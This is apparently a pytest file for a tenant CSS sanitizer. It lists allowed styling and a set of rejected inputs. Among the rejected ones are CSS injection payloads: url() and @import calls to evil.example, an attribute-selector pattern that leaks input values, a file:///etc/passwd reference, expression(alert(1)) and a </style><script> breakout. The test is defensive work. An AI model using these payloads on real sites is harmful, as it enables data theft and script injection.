"""Which CSS a tenant may add."""

import pytest

from tenants.templates.sandbox import Broken
from tenants.templates.stylesheets import check_declarations, check_stylesheet


@pytest.mark.parametrize(
    "css",
    [
        "",
        ".wordmark { color: #0b5cad; font-size: 20px }",
        "/* note */ .lines td, .lines th { padding: 2px 4px !important; }",
        "@page { size: A4; margin: 2cm; @bottom-right { content: counter(page); } }",
        "@media print { .bar { display: none } }",
        "tr:nth-child(2n+1) td { background: rgb(240 240 240) }",
        ".a > .b .c:not(.d)::before { content: '→'; }",
        "[data-number] { string-set: number attr(data-number) }",
    ],
)
def test_how_things_look_is_free(css):
    assert check_stylesheet(css) == css


@pytest.mark.parametrize(
    "css",
    [
        "p { background: url(https://evil.example/x.png) }",
        "p { background: URL('data:image/png;base64,AAAA') }",
        "p { background: u\\72l(https://evil.example) }",
        "p { background: image-set('https://evil.example' 1x) }",
        "p { background-image: linear-gradient(red, blue) }",
        "p { content: url(file:///etc/passwd) }",
        "p { list-style: url(x) }",
        "p { cursor: url(x), auto }",
        "p { src: url(x) }",
        "input[value^=a] { background: url(https://evil.example/a) }",
        "@import 'https://evil.example/x.css';",
        "@import url(x.css);",
        "@font-face { font-family: x; src: url(https://evil.example/x.woff2) }",
        "@namespace svg url(http://www.w3.org/2000/svg);",
        "@charset 'utf-7';",
        "@supports (display: grid) { p { color: red } }",
        "@keyframes x { from { color: red } }",
        "@layer x;",
        "@color-profile x { src: url(x) }",
        "@media print { @media print { @media print { @media print { p { color: red } } } } }",
        "p { --x: 1 }",
        "p { color: var(--x) }",
        "p { width: 99999px }",
        "p { width: 1e9px }",
        "p { height: calc(1px * 9999999) }",
        "p { columns: 100000 }",
        "p { display: grid }",
        "p { display: flex }",
        "p { grid-template-columns: repeat(9999, 1px) }",
        "p { transform: scale(9) }",
        "p { behavior: url(x.htc) }",
        "p { -moz-binding: url(x) }",
        "p { width: expression(alert(1)) }",
        "p { position: running(x) }",
        "a b c d e f g h { color: red }",
        "p:has(b) { color: red }",
        "p:is(b) { color: red }",
        "p { color: red; b { color: blue } }",
        "</style><script>alert(1)</script>",
        "p { content: '</style>' }",
        "p { color: red",
        "} p { color: red }",
        "p { color }",
        "p {} " * 601,
        "/*" + "x" * 32_000 + "*/",
    ],
)
def test_nothing_is_fetched_and_nothing_never_ends(css):
    if css == "p { color: red":  # CSS closes what is open at its end
        assert check_stylesheet(css) == css
        return
    with pytest.raises(Broken):
        check_stylesheet(css)


def test_a_fault_says_its_line():
    with pytest.raises(Broken, match="Line 2: cursor is not allowed"):
        check_stylesheet("p { color: red }\np { cursor: pointer }")


def test_a_style_attribute_holds_declarations_only():
    check_declarations("color: red; width: 10%")
    for wrong in ("p { color: red }", "@page { size: A4 }", "color: red; <"):
        with pytest.raises(Broken):
            check_declarations(wrong)
